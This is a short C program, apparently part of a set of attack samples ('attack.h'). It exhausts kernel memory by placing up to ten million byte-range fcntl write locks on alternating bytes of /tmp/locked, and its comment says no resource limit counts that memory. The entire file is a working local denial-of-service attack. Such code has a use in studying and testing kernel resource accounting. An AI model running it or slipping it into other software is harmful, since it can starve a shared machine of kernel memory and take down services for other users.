/* Locks every other byte of a file: kernel memory that no limit counts. */
#include "attack.h"

int main(void)
{
    int fd = open("/tmp/locked", O_RDWR | O_CREAT, 0600);
    for (long i = 0; i < 10000000; i++) {
        struct flock lock = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * i, .l_len = 1 };
        if (fcntl(fd, F_SETLK, &lock) != 0)
            return 1;
    }
    return 0;
}
